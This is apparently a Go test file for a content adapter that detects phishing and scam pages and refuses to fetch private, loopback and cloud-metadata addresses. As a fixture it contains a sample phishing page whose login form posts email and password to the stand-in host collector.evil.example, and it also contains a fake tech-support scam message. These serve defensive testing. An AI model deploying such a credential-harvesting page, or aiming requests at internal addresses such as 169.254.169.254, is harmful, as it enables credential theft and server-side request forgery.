package enrichment

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
)

const phishingPage = `<!doctype html>
<html><body>
<h1>Security alert</h1>
<p>Unusual sign-in detected. Verify your account within 24 hours or it will be locked.</p>
<form action="https://collector.evil.example/submit" method="post">
  <input type="email" name="email">
  <input type="password" name="pass">
  <button>Continue</button>
</form>
</body></html>`

const benignPage = `<!doctype html>
<html><body>
<h1>Example Domain</h1>
<p>This domain is for use in illustrative examples in documents.</p>
<form action="/search"><input type="text" name="q"></form>
</body></html>`

func serveHTML(body string) *httptest.Server {
	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(body))
	}))
}

// =============================================================================
// Content Adapter Tests
// =============================================================================

// TestContentLookup_PhishingForm verifies credential forms with urgency score high.
func TestContentLookup_PhishingForm(t *testing.T) {
	server := serveHTML(phishingPage)
	defer server.Close()

	c := NewContentAdapter(ContentConfig{AllowPrivate: true}, nil)
	sig := c.Lookup(context.Background(), Target{URL: server.URL + "/login"})

	present, ok := sig.(Present)
	if !ok {
		t.Fatalf("expected Present, got %#v", sig)
	}
	if present.Score < 0.99 || present.Score > 1 {
		t.Errorf("expected score near 1, got %v", present.Score)
	}
	if present.ThreatType != ThreatTypePhishing {
		t.Errorf("expected phishing, got %s", present.ThreatType)
	}
	if !strings.Contains(present.Detail, "another host") {
		t.Errorf("detail should flag cross-host form, got %q", present.Detail)
	}
}

// TestContentLookup_BenignPage verifies ordinary pages score zero.
func TestContentLookup_BenignPage(t *testing.T) {
	server := serveHTML(benignPage)
	defer server.Close()

	c := NewContentAdapter(ContentConfig{AllowPrivate: true}, nil)
	present, ok := c.Lookup(context.Background(), Target{URL: server.URL}).(Present)
	if !ok {
		t.Fatal("expected Present")
	}
	if present.Score != 0 {
		t.Errorf("expected score 0, got %v (%s)", present.Score, present.Detail)
	}
}

// TestContentLookup_RefusesPrivateAddresses verifies loopback targets are skipped by default.
func TestContentLookup_RefusesPrivateAddresses(t *testing.T) {
	var hits int
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits++
	}))
	defer server.Close()

	c := NewContentAdapter(ContentConfig{}, nil)
	if _, ok := c.Lookup(context.Background(), Target{URL: server.URL}).(Absent); !ok {
		t.Error("expected Absent for loopback target")
	}
	if hits != 0 {
		t.Errorf("expected no request, got %d", hits)
	}
}

// TestContentLookup_RefusesResolvedLoopback verifies a hostname that resolves to
// loopback is refused at connect time.
func TestContentLookup_RefusesResolvedLoopback(t *testing.T) {
	var hits atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Write([]byte(phishingPage))
	}))
	defer server.Close()

	u, err := url.Parse(server.URL)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	target := "http://localhost:" + u.Port() + "/"

	c := NewContentAdapter(ContentConfig{}, nil)
	absent, ok := c.Lookup(context.Background(), Target{URL: target, Hostname: "localhost"}).(Absent)
	if !ok {
		t.Fatal("expected Absent for a name resolving to loopback")
	}
	if !errors.Is(absent.Reason, errNonPublicAddress) {
		t.Errorf("expected non-public refusal, got: %v", absent.Reason)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("expected no request, got %d", n)
	}
}

func TestIsPublicAddr(t *testing.T) {
	tests := []struct {
		addr string
		want bool
	}{
		{"93.184.216.34", true},
		{"2606:2800:220:1:248:1893:25c8:1946", true},
		{"127.0.0.1", false},
		{"::1", false},
		{"10.1.2.3", false},
		{"192.168.1.5", false},
		{"169.254.169.254", false},
		{"100.64.0.1", false},
		{"0.0.0.0", false},
		{"::ffff:127.0.0.1", false},
		{"fd00::1", false},
		{"fe80::1", false},
	}
	for _, tt := range tests {
		t.Run(tt.addr, func(t *testing.T) {
			if got := isPublicAddr(netip.MustParseAddr(tt.addr)); got != tt.want {
				t.Errorf("isPublicAddr(%s) = %v, want %v", tt.addr, got, tt.want)
			}
		})
	}
}

func TestRefuseNonPublic(t *testing.T) {
	if err := refuseNonPublic("tcp4", "93.184.216.34:443", nil); err != nil {
		t.Errorf("public address refused: %v", err)
	}
	for _, address := range []string{"169.254.169.254:80", "[::1]:8080", "100.100.100.100:443"} {
		if err := refuseNonPublic("tcp", address, nil); !errors.Is(err, errNonPublicAddress) {
			t.Errorf("refuseNonPublic(%s) = %v, want errNonPublicAddress", address, err)
		}
	}
}

// TestContentLookup_NonHTML verifies other content types are not parsed.
func TestContentLookup_NonHTML(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/pdf")
		w.Write([]byte("%PDF-1.7 password"))
	}))
	defer server.Close()

	c := NewContentAdapter(ContentConfig{AllowPrivate: true}, nil)
	present, ok := c.Lookup(context.Background(), Target{URL: server.URL}).(Present)
	if !ok || present.Score != 0 {
		t.Errorf("expected Present(0) for non-HTML, got %#v", present)
	}
}

// TestContentLookup_ErrorStatus verifies HTTP errors degrade to Absent.
func TestContentLookup_ErrorStatus(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
	}))
	defer server.Close()

	c := NewContentAdapter(ContentConfig{AllowPrivate: true}, nil)
	if _, ok := c.Lookup(context.Background(), Target{URL: server.URL}).(Absent); !ok {
		t.Error("expected Absent for 502")
	}
}

// TestContentLookup_TechSupportScam verifies scam wording without forms.
func TestContentLookup_TechSupportScam(t *testing.T) {
	server := serveHTML(`<html><body>Microsoft Support: virus detected! Call now +1 800 000 0000</body></html>`)
	defer server.Close()

	c := NewContentAdapter(ContentConfig{AllowPrivate: true}, nil)
	present, ok := c.Lookup(context.Background(), Target{URL: server.URL}).(Present)
	if !ok {
		t.Fatal("expected Present")
	}
	if present.ThreatType != ThreatTypeScam {
		t.Errorf("expected scam, got %s", present.ThreatType)
	}
	if present.Score != 0.4 {
		t.Errorf("expected score 0.4, got %v", present.Score)
	}
}
